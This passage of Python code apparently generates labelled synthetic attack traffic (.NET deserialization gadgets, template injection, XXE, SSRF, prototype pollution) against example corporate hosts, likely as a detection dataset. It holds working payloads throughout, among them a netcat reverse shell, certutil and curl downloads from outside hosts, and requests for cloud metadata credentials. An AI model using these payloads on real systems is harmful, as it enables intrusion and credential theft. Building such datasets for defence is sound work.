                 ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
                 ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar")])
    add("POST", "/hr/leave", browser(r) + [["Content-Type", "application/x-www-form-urlencoded"], ["c1", "Runtime"], ["c2", "<%"]], body, host="portal.corp.example")
    add("POST", "/api/v1/import", browser(r, ajax=True) + [["Content-Type", "application/json"]],
        json.dumps(["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://203.0.113.5:1389/Obj", "autoCommit": True}]), host="portal.corp.example")
    add("POST", "/api/v1/partners", browser(r, ajax=True) + [["Content-Type", "application/json"]],
        json.dumps({"name": "x", "meta": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://198.51.100.7:1099/Exploit", "autoCommit": True}}), host="portal.corp.example")


DOTNET_ASM = "mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"
DOTNET_SYS = "System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"


def dotnet_gadget(r, gadget, cmd):
    """Bytes shaped like ysoserial.net output for LosFormatter/ObjectStateFormatter."""
    if gadget == "TypeConfuseDelegate":
        strings = ["System.Collections.Generic.SortedSet`1[[System.String, %s]]" % DOTNET_ASM, "Count", "Comparer", "Version", "Items",
                   "System.Collections.Generic.ComparisonComparer`1[[System.String, %s]]" % DOTNET_ASM, "_comparison",
                   "System.DelegateSerializationHolder", "Delegate", "method0", "method1",
                   "System.DelegateSerializationHolder+DelegateEntry", "System.Func`3[[System.String, %s],[System.String, %s],[System.Diagnostics.Process, %s]]" % (DOTNET_ASM, DOTNET_ASM, DOTNET_SYS),
                   "System.Diagnostics.Process", "Start", "System.Reflection.RuntimeMethodInfo", "cmd", "/c " + cmd]
    elif gadget == "TextFormattingRunProperties":
        xaml = ('<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" '
                'xmlns:System="clr-namespace:System;assembly=mscorlib" xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system">'
                '<ObjectDataProvider x:Key="LaunchCalc" ObjectType="{x:Type Diag:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters>'
                '<System:String>cmd</System:String><System:String>/c %s</System:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>' % cmd)
        strings = ["Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
                   "Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties", "ForegroundBrush", xaml]
    elif gadget == "ActivitySurrogateSelector":
        strings = ["System.Workflow.ComponentModel, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
                   "System.Workflow.ComponentModel.Serialization.ActivitySurrogateSelector+ObjectSurrogate+ObjectSerializedRef",
                   "System.Linq.Enumerable+WhereSelectEnumerableIterator`2", "System.Reflection.Assembly", "Load", "MZ\x90\x00\x03", cmd]
    else:  # WindowsIdentity
        inner = b64(b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01" + "System.Diagnostics.Process Start cmd /c {}".format(cmd).encode())
        strings = ["System.Security.Principal.WindowsIdentity", "System.Security.ClaimsIdentity.actor", inner]
    out = b"\xff\x01\x32" + bytes([r.randint(0x80, 0xff)]) + b"\x0b\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00"
    for s in strings:
        b = s.encode("utf-8")
        n = len(b)
        pre = bytes([n]) if n < 128 else bytes([(n & 0x7f) | 0x80, n >> 7])
        out += b"\x06" + bytes([r.randint(1, 40)]) + b"\x00\x00\x00" + pre + b
    return out + rbytes(r, 20)


def a_generic(c):
    r = rng("a_generic")
    add = A(c, "generic", "dotnet-deser")
    host = "intranet.corp.example"
    for gadget, cmd in [("TypeConfuseDelegate", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
                        ("TextFormattingRunProperties", "certutil -urlcache -f http://203.0.113.5/b.exe %TEMP%\\b.exe"),
                        ("ActivitySurrogateSelector", "whoami"), ("WindowsIdentity", "calc.exe"),
                        ("TypeConfuseDelegate", "echo pwned > C:\\inetpub\\wwwroot\\p.txt")]:
        vs = b64(dotnet_gadget(r, gadget, cmd))
        pairs = [("__EVENTTARGET", ""), ("__EVENTARGUMENT", ""), ("__VIEWSTATE", vs), ("__VIEWSTATEGENERATOR", vsgen(r)),
                 ("ctl00$MainContent$txtSearch", "x"), ("ctl00$MainContent$btnSearch", "Search")]
        h = browser(r, cookie=aspnet_cookie(r)); h.append(["Content-Type", "application/x-www-form-urlencoded"])
        add("POST", r.choice(["/Orders/OrderList.aspx", "/Default.aspx", "/Admin/Users.aspx"]), h, form(pairs), host=host)
    # GET-based ViewState (unencrypted, MAC disabled)
    add("GET", "/Default.aspx?__VIEWSTATE=" + q(b64(dotnet_gadget(r, "TypeConfuseDelegate", "nslookup vs.oast.example"))) + "&__VIEWSTATEGENERATOR=CA0B0334", browser(r), host=host)
    # Json.NET $type in .asmx / WCF JSON
    add("POST", "/Services/Lookup.asmx/SaveDraft", browser(r, ajax=True) + [["Content-Type", "application/json; charset=utf-8"]],
        json.dumps({"id": 1, "text": {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
                                      "MethodName": "Start", "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib", "$values": ["cmd", "/c whoami"]},
                                      "ObjectInstance": {"$type": "System.Diagnostics.Process, System"}}}), host=host)
    # XmlSerializer ExpandedWrapper in SOAP
    sbody = soap(r, '<SaveSettings xmlns="http://tempuri.org/"><settings xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                    'xsi:type="ExpandedWrapperOfXamlReaderObjectDataProvider"><ExpandedElement/><ProjectedProperty0><MethodName>Parse</MethodName>'
                    '<MethodParameters><anyType xsi:type="xsd:string" xmlns:xsd="http://www.w3.org/2001/XMLSchema">&lt;ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" '
                    'xmlns:d="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:b="clr-namespace:System;assembly=mscorlib" xmlns:c="clr-namespace:System.Diagnostics;assembly=system"&gt;'
                    '&lt;ObjectDataProvider d:Key="" ObjectType="{d:Type c:Process}" MethodName="Start"&gt;&lt;ObjectDataProvider.MethodParameters&gt;&lt;b:String&gt;cmd&lt;/b:String&gt;'
                    '&lt;b:String&gt;/c calc&lt;/b:String&gt;&lt;/ObjectDataProvider.MethodParameters&gt;&lt;/ObjectDataProvider&gt;&lt;/ResourceDictionary&gt;</anyType></MethodParameters>'
                    '<ObjectInstance xsi:type="XamlReader"/></ProjectedProperty0></settings></SaveSettings>')
    add("POST", "/Services/Settings.asmx", soap_headers(r, "http://tempuri.org/SaveSettings"), sbody, host="api.corp.example")
    # SoapFormatter payload
    sf = ('<SOAP-ENV:Envelope xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:SOAP-ENC="http://schemas.xmlsoap.org/soap/encoding/" '
          'xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" xmlns:clr="http://schemas.microsoft.com/soap/encoding/clr/1.0"><SOAP-ENV:Body>'
          '<a1:DelegateSerializationHolder id="ref-1" xmlns:a1="http://schemas.microsoft.com/clr/ns/System"><Delegate href="#ref-2"/><method0 href="#ref-3"/></a1:DelegateSerializationHolder>'
          '<a1:DelegateSerializationHolder_x002B_DelegateEntry id="ref-2" xmlns:a1="http://schemas.microsoft.com/clr/ns/System"><type id="ref-4">System.Func`3[[System.String],[System.String],[System.Diagnostics.Process, System]]</type>'
          '<targetTypeName id="ref-6">System.Diagnostics.Process</targetTypeName><methodName id="ref-7">Start</methodName></a1:DelegateSerializationHolder_x002B_DelegateEntry>'
          '<a3:Process xmlns:a3="http://schemas.microsoft.com/clr/nsassem/System.Diagnostics/System"><StartInfo><FileName>cmd</FileName><Arguments>/c whoami</Arguments></StartInfo></a3:Process>'
          '</SOAP-ENV:Body></SOAP-ENV:Envelope>')
    add("POST", "/RemotingService/Server.rem", [["User-Agent", "Mozilla/4.0 (compatible; MSIE 6.0; MS .NET Remoting; MS .NET CLR 4.0.30319.42000 )"],
                                                ["Content-Type", "text/xml; charset=utf-8"], ["SOAPAction", '"http://schemas.microsoft.com/clr/nsassem/Server/Server#Run"']], sf, host="api.corp.example")
    # .resx upload with a DataSet/BinaryFormatter payload
    resx = ('<?xml version="1.0" encoding="utf-8"?><root><data name="x" mimetype="application/x-microsoft.net.object.binary.base64"><value>%s</value></data></root>'
            % b64(dotnet_gadget(r, "TypeConfuseDelegate", "calc")[3:]))
    bnd = boundary_dotnet(r)
    body = multipart([fd_file("ctl00$MainContent$fuImport", "Strings.resx", "application/xml", resx)], bnd)
    h = browser(r, cookie=aspnet_cookie(r)); h.append(["Content-Type", "multipart/form-data; boundary=" + bnd])
    add("POST", "/Admin/Localization.aspx", h, body, host=host)
    # XSLT with embedded script (BizTalk/SSRS-style transform upload)
    add = A(c, "generic", "xslt-script")
    xslt = ('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:user="urn:x">'
            '<msxsl:script language="C#" implements-prefix="user"><![CDATA[public string run(){ System.Diagnostics.Process.Start("cmd.exe","/c whoami > c:\\\\temp\\\\o.txt"); return "ok"; }]]></msxsl:script>'
            '<xsl:template match="/"><xsl:value-of select="user:run()"/></xsl:template></xsl:stylesheet>')
    add("POST", "/integration/maps/upload", browser(r) + [["Content-Type", "application/xslt+xml"]], xslt, host="api.corp.example")
    xslt2 = ('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime">'
             '<xsl:template match="/"><xsl:variable name="r" select="rt:getRuntime()"/><xsl:value-of select="rt:exec($r,\'id\')"/></xsl:template></xsl:stylesheet>')
    add("POST", "/sap/xi/mapping/test", [["User-Agent", "curl/8.4.0"], ["Content-Type", "text/xml"]], xslt2, host="api.corp.example")
    # prototype pollution in the Node BFF
    add = A(c, "generic", "proto-pollution")
    add("POST", "/bff/api/preferences", browser(r, ajax=True) + [["Content-Type", "application/json"]], '{"theme":"sap_horizon","__proto__":{"isAdmin":true}}', host="fiori.corp.example")
    add("GET", "/bff/api/search?constructor[prototype][role]=admin&q=pump", browser(r, ajax=True), host="fiori.corp.example")
    add("POST", "/bff/api/profile", browser(r, ajax=True) + [["Content-Type", "application/json"]], '{"constructor":{"prototype":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}}', host="fiori.corp.example")


def a_ssti(c):
    r = rng("a_ssti")
    add = A(c, "ssti", "jsf-el")
    el = ["#{facesContext.externalContext.request.getSession().setAttribute('role','admin')}",
          "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}",
          "#{request.getClass().getClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('calc')}",
          "${applicationScope}", "#{''.class.forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}"]
    for e in el:
        pairs = [("j_idt12", "j_idt12"), ("j_idt12:firstName", "Anna"), ("j_idt12:comment", e), ("j_idt12:j_idt31", "Submit"), ("javax.faces.ViewState", jsf_viewstate_server(r))]
        h = browser(r, cookie=jsession(r)); h.append(["Content-Type", "application/x-www-form-urlencoded"])
        add("POST", "/claims/edit.xhtml", h, form(pairs), host="portal.corp.example")
    add("GET", "/app/orders/list.jsf?orderId=%24%7B7*7%7D%23%7BfacesContext.externalContext.redirect('https%3A%2F%2Fevil.example')%7D", browser(r), host="portal.corp.example")
    add = A(c, "ssti", "workflow-el")
    ch = [["User-Agent", "python-requests/2.31.0"], ["Content-Type", "application/json"], ["Authorization", "Basic " + b64("demo:demo")]]
    add("POST", "/engine-rest/process-definition/key/invoice/start", ch, json.dumps({"businessKey": "${execution.getProcessEngineServices().getIdentityService().createUserQuery().list()}",
                                                                                     "variables": {"amount": {"value": 10, "type": "Integer"}}}), host="bpm.corp.example")
    add("POST", "/engine-rest/task/%s/submit-form" % ruuid(r), ch, json.dumps({"variables": {"comment": {"value": "${''.getClass().forName('java.lang.Runtime').getRuntime().exec('curl http://203.0.113.5/c')}"}}}), host="bpm.corp.example")
    add("POST", "/engine-rest/task/%s/complete" % ruuid(r), ch, json.dumps({"variables": {"approver": {"value": "#{Runtime.getRuntime().exec('nc 198.51.100.7 4444 -e /bin/sh')}"}}}), host="bpm.corp.example")
    add = A(c, "ssti", "template-ssti")
    tp = [
        ("portal.corp.example", "/notifications/api/templates/7", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
        ("portal.corp.example", "/notifications/api/templates/8", '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("whoami"))$x'),
        ("portal.corp.example", "/notifications/api/templates/9", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("portal.corp.example", "/notifications/api/templates/10", "{{''.__class__.__mro__[1].__subclasses__()[407]('cat /etc/passwd',shell=True,stdout=-1).communicate()}}"),
        ("intranet.corp.example", "/mailer/api/templates/3", '@{ System.Diagnostics.Process.Start("cmd.exe","/c whoami"); }Dear @Model.Name'),
        ("php.corp.example", "/crm/api/templates/2", '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}'),
        ("portal.corp.example", "/notifications/api/templates/11", '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'id\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}'),
    ]
    for host, path, t in tp:
        h = browser(r, ajax=True, cookie=jsession(r)); h.append(["Content-Type", "application/json"])
        add("PUT", path, h, json.dumps({"name": "dunning", "subject": "Reminder", "html": t}), host=host)
    add("GET", "/procurement/req?lang=__%24%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D__%3A%3A.x", browser(r), host="portal.corp.example")
    add("GET", "/hr/api/letters/preview?name=" + q("{{7*7}}${7*7}<%= `id` %>"), browser(r), host="portal.corp.example")
    body, h = twilio_sms(r, "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}")
    add("POST", "/hooks/twilio/sms?bot=appointments", h, body, host="hooks.corp.example")
    add("GET", "/search/results.cfm?q=" + q('#Evaluate("CreateObject(\'java\',\'java.lang.Runtime\').getRuntime().exec(\'id\')")#'), browser(r), host="legacy.corp.example")
    add("POST", "/api/workflow/expression/validate", browser(r, ajax=True) + [["Content-Type", "application/json"], ["X-Rule-Name", "T(java.lang.Runtime).getRuntime().exec('id')"]],
        json.dumps({"expr": "amount > 1000"}), host="bpm.corp.example")


XXE_DTDS = [
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://203.0.113.5/evil.dtd"> %ext;]>',
    '<!DOCTYPE data [<!ENTITY win SYSTEM "file:///c:/windows/win.ini">]>',
    '<!DOCTYPE x [<!ENTITY % a SYSTEM "php://filter/convert.base64-encode/resource=/etc/hostname"><!ENTITY % b "<!ENTITY &#x25; c SYSTEM \'http://203.0.113.5/?%a;\'>">%b;%c;]>',
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>',
    '<!DOCTYPE r SYSTEM "http://198.51.100.7:8080/x.dtd">',
    '<!DOCTYPE q [<!ENTITY xxe SYSTEM "netdoc:///etc/passwd">]>',
    '<!DOCTYPE q [<!ENTITY xxe SYSTEM "jar:http://203.0.113.5/x.zip!/a.txt">]>',
]


def a_xxe(c):
    r = rng("a_xxe")
    add = A(c, "xxe", "soap-xxe")
    ops = [("/OrderService/OrderService.asmx", "urn:GetOrderStatus", '<GetOrderStatus xmlns="http://tempuri.org/"><orderNumber>&xxe;</orderNumber></GetOrderStatus>'),
           ("/sap/bc/srt/rfc/sap/ecc_customer001qr/100/customer/binding", "CustomerERPByIDQuery", '<n0:CustomerERPByIDQuery_sync xmlns:n0="http://sap.com/xi/SAPGlobal20/Global"><CustomerSelectionByID><CustomerID>&xxe;</CustomerID></CustomerSelectionByID></n0:CustomerERPByIDQuery_sync>'),
           ("/ws/CustomerService", "CreateCustomer", '<cus:CreateCustomer xmlns:cus="http://corp.example/ws/customer/v2"><cus:Name>&win;</cus:Name></cus:CreateCustomer>'),
           ("/EWS/Exchange.asmx", "FindItem", '<m:FindItem xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages">&xxe;</m:FindItem>'),
           ("/PSIGW/PeopleSoftServiceListeningConnector/PSFT_HR", "CI_PERSONAL_DATA.V1", '<Get__CompIntfc__CI_PERSONAL_DATA><KEYPROP_EMPLID>&xxe;</KEYPROP_EMPLID></Get__CompIntfc__CI_PERSONAL_DATA>')]
    for i, (path, action, bodyxml) in enumerate(ops):
        dtd = XXE_DTDS[[0, 1, 2, 3, 6][i]]
        env = '<?xml version="1.0" encoding="utf-8"?>\n' + dtd + soap(r, bodyxml, "1.1" if i % 2 == 0 else "1.2").split("\n", 1)[-1]
        if not env.split("\n", 1)[-1].startswith("<soap:"):
            env = '<?xml version="1.0" encoding="utf-8"?>\n' + dtd + soap(r, bodyxml, "1.1" if i % 2 == 0 else "1.2").replace('<?xml version="1.0" encoding="utf-8"?>\n', "")
        add("POST", path, soap_headers(r, action, "1.1" if i % 2 == 0 else "1.2"), env, host="api.corp.example")
    # XInclude in SOAP body (no DOCTYPE)
    sbody = soap(r, '<GetPrice xmlns="http://tempuri.org/"><request><Material xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></Material></request></GetPrice>')
    add("POST", "/Services/PricingService.svc", soap_headers(r, "http://tempuri.org/IPricingService/GetPrice"), sbody, host="api.corp.example")
    # PeopleSoft IB gateway (the classic pre-auth XXE)
    add("POST", "/PSIGW/HttpListeningConnector", [["User-Agent", "Mozilla/5.0"], ["Content-Type", "application/xml"]],
        '<?xml version="1.0"?>\n<!DOCTYPE IBRequest [<!ENTITY x SYSTEM "http://127.0.0.1:8000/PSEMHUB/hub">]>\n<IBRequest><ExternalOperationName>&x;</ExternalOperationName><OperationType/><From><RequestingNode/><Password/><OrigUser/><OrigNode/><OrigProcess/><OrigTimeStamp/></From><To><FinalDestination/><DestinationNode/><SubChannel/></To><ContentSections><ContentSection><NonRepudiation/><MessageVersion/><Data><![CDATA[x]]></Data></ContentSection></ContentSections></IBRequest>',
        host="hr.corp.example")
    add = A(c, "xxe", "dav-xxe")
    body = ('<?xml version="1.0" encoding="utf-8"?>\n' + XXE_DTDS[0] + '\n<C:calendar-query xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav"><D:prop><D:getetag/></D:prop>'
            '<C:filter><C:comp-filter name="&xxe;"/></C:filter></C:calendar-query>')
    add("REPORT", "/calendars/jdoe/calendar/", [["User-Agent", CALDAV_CLIENTS[0]], ["Content-Type", "application/xml; charset=utf-8"], ["Depth", "1"]], body, host="dav.corp.example")
    body = '<?xml version="1.0"?>\n' + XXE_DTDS[1] + '\n<d:propfind xmlns:d="DAV:"><d:prop><d:displayname/></d:prop></d:propfind>'
    add("PROPFIND", "/calendars/jdoe/", [["User-Agent", CALDAV_CLIENTS[2]], ["Content-Type", "text/xml"], ["Depth", "0"]], body, host="dav.corp.example")
    body = '<?xml version="1.0" encoding="UTF-16"?>\n' + XXE_DTDS[5] + '\n<C:calendar-multiget xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav"><D:href>/x.ics</D:href></C:calendar-multiget>'
    add("REPORT", "/calendars/jdoe/calendar/", [["User-Agent", CALDAV_CLIENTS[1]], ["Content-Type", "application/xml; charset=utf-16"], ["Depth", "1"]], body, host="dav.corp.example")
    add = A(c, "xxe", "b2b-xxe")
    # cXML / ebXML / Excel 2003 XML / BPMN / SAML / SVG / RSS
    cx = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE cXML [<!ENTITY xxe SYSTEM "file:///opt/sap/etc/secstore.properties">]>\n'
          '<cXML payloadID="%d@corp.example" timestamp="2024-01-11T10:00:00"><Header><From><Credential domain="NetworkID"><Identity>AN01</Identity></Credential></From></Header>'
          '<Request><OrderRequest><OrderRequestHeader orderID="&xxe;"/></OrderRequest></Request></cXML>' % r.randint(1, 99999))
    add("POST", "/as2/receive", as2_headers(r, "application/xml"), cx, host="as2.corp.example")
    bnd = boundary_dotnet(r)
    xl = ('<?xml version="1.0"?>\n' + XXE_DTDS[2] + '\n<?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">'
          '<Worksheet ss:Name="A"><Table><Row><Cell><Data ss:Type="String">&win;</Data></Cell></Row></Table></Worksheet></Workbook>')
    body = multipart([fd_file("ctl00$MainContent$fuImport", "Bestellung.xml", "text/xml", xl)], bnd)
    h = browser(r, cookie=aspnet_cookie(r)); h.append(["Content-Type", "multipart/form-data; boundary=" + bnd])
    add("POST", "/Import/Upload.aspx", h, body, host="intranet.corp.example")
    bpmn = ('<?xml version="1.0" encoding="UTF-8"?>\n' + XXE_DTDS[3] + '\n<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d"><bpmn:process id="p" isExecutable="true"/></bpmn:definitions>')
    bnd = boundary_webkit(r)
    body = multipart([fd_field("deployment-name", "p"), fd_file("p.bpmn", "p.bpmn", "application/octet-stream", bpmn)], bnd)
    add("POST", "/engine-rest/deployment/create", [["User-Agent", "curl/8.4.0"], ["Content-Type", "multipart/form-data; boundary=" + bnd]], body, host="bpm.corp.example")
    saml = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://203.0.113.5/s.dtd">%x;]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"/>')
    add("POST", "/sap/saml2/sp/acs/100", browser(r) + [["Content-Type", "application/x-www-form-urlencoded"]], form([("SAMLResponse", b64(saml)), ("RelayState", "/sap/bc/ui2/flp")]), host="fiori.corp.example")
    svg = ('<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg width="128" height="128" xmlns="http://www.w3.org/2000/svg"><text x="0" y="16">&xxe;</text></svg>')
    bnd = boundary_webkit(r)
    body = multipart([fd_file("photo", "logo.svg", "image/svg+xml", svg)], bnd)
    add("POST", "/profile/photo", browser(r, cookie=jsession(r)) + [["Content-Type", "multipart/form-data; boundary=" + bnd]], body, host="portal.corp.example")
    body = '<?xml version="1.0"?>\n' + XXE_DTDS[4] + '\n<GetOrderStatus xmlns="http://tempuri.org/"><orderNumber>&lol3;</orderNumber></GetOrderStatus>'
    add("POST", "/OrderService/OrderService.asmx/GetOrderStatus", [["User-Agent", "python-requests/2.31.0"], ["Content-Type", "text/xml"]], body, host="api.corp.example")
    body = ('<?xml version="1.0" encoding="ISO-8859-1"?>\n' + XXE_DTDS[7] + '\n<ORDERS05><IDOC BEGIN="1"><EDI_DC40 SEGMENT="1"><DOCNUM>&xxe;</DOCNUM></EDI_DC40></IDOC></ORDERS05>')
    add("POST", "/sap/xi/adapter_plain?namespace=urn:corp&interface=ORDERS05&service=ECC&party=&agency=&scheme=&QOS=EO", [["User-Agent", "curl/8.4.0"], ["Content-Type", "text/xml"]], body, host="api.corp.example")
    add("POST", "/api/v1/edi/validate", browser(r, ajax=True) + [["Content-Type", "application/json"]],
        json.dumps({"format": "xml", "document": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}), host="portal.corp.example")
    body = form([("xml", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "expect://id">]><Invoice><Id>&b;</Id></Invoice>'), ("partner", "ACME")])
    add("POST", "/edi/upload.cfm", browser(r) + [["Content-Type", "application/x-www-form-urlencoded"]], body, host="legacy.corp.example")


def a_ssrf(c):
    r = rng("a_ssrf")
    add = A(c, "ssrf", "wsa-ssrf")
    targets = ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:8500/v1/agent/self",
               "http://[::ffff:a9fe:a9fe]/latest/user-data", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
               "http://100.100.100.200/latest/meta-data/ram/security-credentials/", "gopher://127.0.0.1:6379/_SET%20x%20pwn%0D%0ACONFIG%20SET%20dir%20/var/spool/cron%0D%0A",
               "http://2852039166/latest/meta-data/"]
    for i, t in enumerate(targets):
        action = "urn:GetOrderStatus"
        hdr = wsa_header(r, action, "https://api.corp.example/ws/OrderService", t if i % 2 == 0 else "http://www.w3.org/2005/08/addressing/anonymous",
                         fault_to=t if i % 2 == 1 else None)
        sbody = soap(r, '<GetOrderStatus xmlns="http://tempuri.org/"><orderNumber>SO-%d</orderNumber></GetOrderStatus>' % r.randint(1, 99999), r.choice(["1.1", "1.2"]), hdr)
        add("POST", "/ws/OrderService", soap_headers(r, action), sbody, host="api.corp.example")
    add = A(c, "ssrf", "callback-ssrf")
    body = form([("To", "+14155550100"), ("From", "+14155550199"), ("Url", "http://169.254.169.254/latest/meta-data/"), ("StatusCallback", "http://127.0.0.1:9200/_cat/indices")])
    add("POST", "/2010-04-01/Accounts/AC%s/Calls.json" % rhex(r, 32), [["User-Agent", "twilio-python/8.10.0 (Linux x86_64) Python/3.11.7"], ["Content-Type", "application/x-www-form-urlencoded"],
                                                                        ["Authorization", "Basic " + b64("AC%s:%s" % (rhex(r, 32), rhex(r, 32)))]], body, host="voice.corp.example")
    add("PATCH", "/v3/user/webhooks/parse/settings/inbound.corp.example", [["User-Agent", "sendgrid/6.11.0;python"], ["Content-Type", "application/json"], ["Authorization", "Bearer SG." + ralnum(r, 60)]],
        json.dumps({"url": "http://0x7f000001:8080/manager/html", "spam_check": False, "send_raw": True}), host="hooks.corp.example")
    add("POST", "/calendar/subscribe", browser(r, ajax=True, cookie=jsession(r)) + [["Content-Type", "application/json"]],
        json.dumps({"name": "Holidays", "source": "webcal://169.254.169.254/latest/meta-data/iam/info", "refresh": "PT1H"}), host="portal.corp.example")
    card = vcard(r, "Mallory", "X", "X", "X", extra=["PHOTO;VALUE=uri:http://127.0.0.1:8080/jmx-console/HtmlAdaptor?action=inspectMBean&name=jboss.system:type=ServerInfo"])
    add("PUT", "/addressbooks/jdoe/contacts/%s.vcf" % ruuid(r), [["User-Agent", CALDAV_CLIENTS[0]], ["Content-Type", "text/vcard"]], card, host="dav.corp.example")
    add("GET", "/Services/WsdlImport.aspx?wsdl=http://localhost:8081/actuator/env", browser(r, cookie=aspnet_cookie(r)), host="intranet.corp.example")
    add("GET", "/sap/bc/webdynpro/sap/appl_soap_management?proxyUrl=http%3A%2F%2F127.1%3A50013%2FSAPControl%3Fwsdl", browser(r, cookie=sap_cookie(r)), host="fiori.corp.example")
    add("GET", "/bff/api/odata-proxy?serviceUrl=" + q("http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"), browser(r, ajax=True), host="fiori.corp.example")
    add("GET", "/reports/api/v2.0/DataSources/test?connectString=" + q("http://[fd00:ec2::254]/latest/meta-data/"), browser(r, cookie=aspnet_cookie(r)), host="reports.corp.example")
    add("POST", "/engine-rest/process-definition/key/http-call/start", [["User-Agent", "curl/8.4.0"], ["Content-Type", "application/json"]],
        json.dumps({"variables": {"url": {"value": "http://169.254.169.254.nip.io/latest/meta-data/", "type": "String"}, "method": {"value": "GET"}}}), host="bpm.corp.example")
    h = as2_headers(r, "application/edi-x12", extra=[("Receipt-Delivery-Option", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")])
    add("POST", "/as2/receive", h, x12_850(r, "PO0000003", 1), host="as2.corp.example")
    add("POST", "/services/data/v59.0/tooling/sobjects/RemoteProxy", [["User-Agent", "python-requests/2.31.0"], ["Content-Type", "application/json"], ["Authorization", "Bearer 00D" + ralnum(r, 100)]],
        json.dumps({"FullName": "x", "Metadata": {"url": "http://127.0.0.1:22/", "isActive": True}}), host="corp.my.salesforce.example")
    add("GET", "/docconv/convert?src=" + q("file:///etc/shadow") + "&out=x.pdf", browser(r), host="portal.corp.example")
    add("GET", "/cms/feed.cfm?feed=" + q("dict://127.0.0.1:11211/stats"), browser(r), host="legacy.corp.example")
    add("POST", "/api/v1/partners/validate-endpoint", browser(r, ajax=True) + [["Content-Type", "application/json"]],
        json.dumps({"as2Url": "http://instance-data/latest/meta-data/hostname"}), host="portal.corp.example")
    xsl = ('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
           '<xsl:copy-of select="document(\'http://169.254.169.254/latest/meta-data/iam/security-credentials/\')"/></xsl:template></xsl:stylesheet>')
